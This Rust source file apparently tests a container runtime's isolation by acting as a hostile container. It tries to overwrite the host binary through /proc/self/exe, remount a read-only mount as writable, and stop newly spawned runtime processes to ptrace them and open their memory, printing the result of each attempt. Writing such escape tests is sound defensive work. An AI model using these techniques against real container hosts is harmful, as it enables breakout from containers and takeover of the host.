//! What a hostile container would try. Each attack prints what it got, one line per attempt.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io;
use std::os::fd::AsRawFd;
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// How long an attack that has to win a race goes on.
const PATIENCE: Duration = Duration::from_secs(20);

fn show<T>(what: &str, result: io::Result<T>) {
    match result {
        Ok(_) => println!("{what}: done"),
        Err(error) => println!("{what}: {}", error.kind()),
    }
}

/// Writes to the program this process executes, which is the host's if the container was started with
/// `/proc/self/exe`.
pub fn overwrite_program() -> ExitCode {
    let write = |path: &str| File::options().write(true).open(path);
    show("open", write("/proc/self/exe"));
    let Ok(program) = File::open("/proc/self/exe") else {
        return ExitCode::FAILURE;
    };
    let again = format!("/proc/self/fd/{}", program.as_raw_fd());
    show("reopen", write(&again));
    // With CAP_SYS_ADMIN a read-only mount can be made writable.
    show("remount", make_writable(&program));
    show("open remounted", write(&again));
    ExitCode::SUCCESS
}

fn make_writable(file: &File) -> io::Result<()> {
    const MOUNT_ATTR_RDONLY: u64 = 1;
    let attributes: [u64; 4] = [0, MOUNT_ATTR_RDONLY, 0, 0];
    // SAFETY: the path is a terminated string and the structure outlives the call.
    let result = unsafe {
        libc::syscall(
            libc::SYS_mount_setattr,
            file.as_raw_fd(),
            c"".as_ptr(),
            libc::AT_EMPTY_PATH,
            attributes.as_ptr(),
            size_of_val(&attributes),
        )
    };
    match result {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}

/// Stops every process that appears beside this one before it executes its program, and looks at what it has. Ends
/// when one was caught.
pub fn watch_newcomers() -> ExitCode {
    println!("watching");
    let mut known = processes();
    let began = Instant::now();
    while began.elapsed() < PATIENCE {
        for pid in processes().difference(&known.clone()) {
            // SAFETY: takes only integers.
            unsafe { libc::kill(*pid, libc::SIGSTOP) };
            known.insert(*pid);
            let is_ours = stopped_as(*pid, "karve-pod");
            if is_ours {
                show("descriptors", fs::read_link(format!("/proc/{pid}/fd/1")));
                show("root", fs::read_dir(format!("/proc/{pid}/root/")));
                show("memory", File::options().write(true).open(format!("/proc/{pid}/mem")));
                show("trace", trace(*pid));
            }
            // SAFETY: takes only integers.
            unsafe { libc::kill(*pid, libc::SIGCONT) };
            if is_ours {
                return ExitCode::SUCCESS;
            }
        }
    }
    println!("caught nobody");
    ExitCode::FAILURE
}

/// Waits until a process has stopped or ended. Answers whether it has stopped under this name.
fn stopped_as(pid: i32, name: &str) -> bool {
    // The number, the name in brackets, the state.
    let start = format!("{pid} ({name}) ");
    while let Ok(stat) = fs::read_to_string(format!("/proc/{pid}/stat")) {
        match stat.rsplit_once(") ").and_then(|(_, rest)| rest.chars().next()) {
            Some('T' | 't') => return stat.starts_with(&start),
            Some('Z' | 'X') | None => return false,
            Some(_) => std::hint::spin_loop(),
        }
    }
    false
}

fn trace(pid: i32) -> io::Result<()> {
    // SAFETY: attaching takes only integers; nothing is read or written.
    match unsafe { libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) } {
        0 => Ok(()),
        _ => Err(io::Error::last_os_error()),
    }
}

fn processes() -> BTreeSet<i32> {
    let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
    entries
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .collect()
}
